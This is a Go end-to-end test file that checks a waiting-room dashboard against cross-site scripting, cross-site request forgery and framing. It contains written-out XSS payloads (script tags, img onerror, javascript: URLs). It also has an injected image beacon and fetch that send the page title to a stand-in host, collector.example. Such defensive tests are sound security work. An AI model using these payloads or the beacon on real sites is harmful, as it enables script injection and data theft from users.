package e2e

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// What people write into rooms, rules, events, tokens and messages stays text on every page.
func TestDashboardShowsHostileTextAsText(t *testing.T) {
	t.Parallel()
	o := startOffice(t)
	const hostile = `"><img src=x onerror="window.owned=1"><script>window.owned=1</script>{{constructor}}javascript:window.owned=1`
	id := o.newRoom(fields{"name": "checkout", "description": hostile, "total_active_users": 1, "new_users_per_minute": 1})
	o.arrive("/")
	o.arrive("/")
	o.good("POST", o.under("/"+id+"/rules"), fields{"action": "bypass_waiting_room", "expression": `http.request.uri.path eq "</script><img src=x onerror=window.owned=1>"`, "description": hostile, "enabled": true}.String(), nil)
	start := time.Now().UTC().Add(time.Hour)
	o.good("POST", o.under("/"+id+"/events"), fields{"name": "sale", "description": hostile, "event_start_time": start.Format(time.RFC3339), "event_end_time": start.Add(time.Hour).Format(time.RFC3339)}.String(), nil)
	o.good("PUT", "/anteroom/v1/zones/"+o.zone+"/rooms/"+id+"/message", fields{"text": hostile}.String(), nil)
	o.good("POST", "/anteroom/v1/tokens", fields{"name": "x", "grants": []fields{{"permission": "read"}}}.String(), nil)
	if status, e := o.call("POST", "/anteroom/v1/tokens", fields{"name": hostile[:60], "grants": []fields{{"permission": "read"}}}.String()); status >= 500 {
		t.Errorf("a token with a hostile name: %d %+v", status, e.Errors)
	}
	d := sitDown(t, o, operatorToken)
	shown := 0
	for _, page := range d.pages() {
		d.goes(page)
		if eval[bool](d.tab, `'owned' in window || document.querySelector('img, main script') != null`) {
			t.Errorf("%s runs what somebody wrote", page)
		}
		if eval[bool](d.tab, `document.body.innerText.includes('window.owned') || [...document.querySelectorAll('input, textarea')].some(e => e.value.includes('window.owned'))`) {
			shown++
		}
	}
	if shown < 3 {
		t.Errorf("the text is shown on %d pages: the story looks at the wrong ones", shown)
	}
}

// A page of another server, which the browser takes for the same site, can neither frame the dashboard nor change anything
// with the session of whoever looks at it; and a script that gets into the dashboard does not run.
func TestDashboardKeepsOtherPagesOut(t *testing.T) {
	t.Parallel()
	o := startOffice(t)
	id := o.newRoom(fields{"name": "checkout"})
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!doctype html><title>elsewhere</title>")
	}))
	t.Cleanup(other.Close)
	d := sitDown(t, o, operatorToken)
	room := o.operators() + "/dash/api/client/v4" + o.under("/"+id)
	elsewhere := d.another()
	elsewhere.visit(other.URL)
	eval[bool](elsewhere, fmt.Sprintf(`Promise.allSettled([
		fetch(%[1]q, {method: 'PATCH', credentials: 'include', headers: {'X-Anteroom': 'dashboard', 'Content-Type': 'application/json'}, body: '{"queue_all":true}'}),
		fetch(%[1]q, {method: 'POST', mode: 'no-cors', credentials: 'include', headers: {'Content-Type': 'text/plain'}, body: '{"queue_all":true}'}),
		fetch(%[2]q, {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'}),
	]).then(() => true)`, room, o.operators()+"/dash/logout"))
	if got := eval[string](elsewhere, fmt.Sprintf(`fetch(%q, {credentials: 'include'}).then(r => r.text(), e => 'refused')`, room)); got != "refused" {
		t.Errorf("another page reads %.200s", got)
	}
	if r := d.room("checkout"); r.QueueAll {
		t.Error("another page has changed the room")
	}
	if got := eval[int](d.tab, `fetch('/dash/session').then(r => r.status)`); got != http.StatusOK {
		t.Errorf("another page has ended the session: %d", got)
	}
	eval[bool](elsewhere, fmt.Sprintf(`new Promise(done => { const f = document.createElement('iframe'); f.onload = () => done(true); f.src = %q; document.body.append(f) })`, o.operators()+"/"))
	for _, a := range elsewhere.answers(o.operators() + "/") {
		policy, _ := a.Headers["content-security-policy"].(string)
		if policy == "" {
			policy, _ = a.Headers["Content-Security-Policy"].(string)
		}
		if !strings.Contains(policy, "frame-ancestors 'none'") || strings.Contains(policy, "unsafe") {
			t.Errorf("the dashboard is served with the policy %q", policy)
		}
	}

	// The tab is not the desk's, whose console has to stay silent.
	inside := d.another()
	inside.visit(o.operators() + "/")
	inside.becomes(20*time.Second, `document.querySelector('nav')`)
	broken := eval[[]string](inside, `new Promise(done => {
		const seen = []
		document.addEventListener('securitypolicyviolation', e => { seen.push(e.effectiveDirective); if (seen.length == 3) done(seen) })
		const s = document.createElement('script')
		s.textContent = 'window.owned = 1'
		document.body.append(s)
		const i = new Image()
		i.src = 'https://collector.example/?' + document.title
		fetch('https://collector.example/').catch(() => {})
	})`)
	if text := strings.Join(broken, " "); !strings.Contains(text, "script-src") || !strings.Contains(text, "img-src") || !strings.Contains(text, "connect-src") {
		t.Errorf("kept out: %s", text)
	}
	if eval[bool](inside, `'owned' in window`) {
		t.Error("a script in the page ran")
	}
}
